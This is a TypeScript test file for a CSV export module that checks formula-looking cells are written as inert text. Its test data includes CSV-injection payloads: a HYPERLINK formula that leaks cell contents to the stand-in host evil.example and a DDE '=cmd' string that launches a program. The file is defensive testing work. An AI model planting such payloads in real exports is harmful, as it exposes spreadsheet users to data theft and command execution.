// CSV exports open in managers' spreadsheets: no cell may run as a formula.
import { cell, csvDocument, slaCsvRow } from '../../domain/reports/slaCsv';

test.each([
  ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
  ['+86 592 000', `"'+86 592 000"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
])('text that a spreadsheet would run (%j) is written as text', (text, written) => {
  expect(cell(text)).toBe(written);
});

test('ordinary text and numbers are written as they are, quoted only where RFC 4180 needs it', () => {
  expect(cell('厦门鹭江装饰工程有限公司')).toBe('厦门鹭江装饰工程有限公司');
  expect(cell('a, "b"')).toBe('"a, ""b"""');
  expect(cell(-3)).toBe('-3');
  expect(cell(0.5)).toBe('0.5');
  expect(cell(null)).toBe('');
});

test('a hostile name in an exported row stays inert', () => {
  const figures = { opened: 1, decided: 0, approved: 0, rejected: 0, decidedInTime: 0, disbursed: 0, disbursedInTime: 0, decidedInTimeRate: null, promiseKeptRate: null, closed: 0, breachedCases: 0, breaches: 0, onTimeRate: null, pausedWorkingDays: 0, medianWorkingDays: { parallelReview: null, creditDecision: null, contractingDisbursing: null, acceptanceToDecision: null } };
  const csv = csvDocument([slaCsvRow('x', '=cmd|" /C calc"!A0', figures)]);
  expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
  expect(csv).not.toMatch(/(^|,)=/m);
});
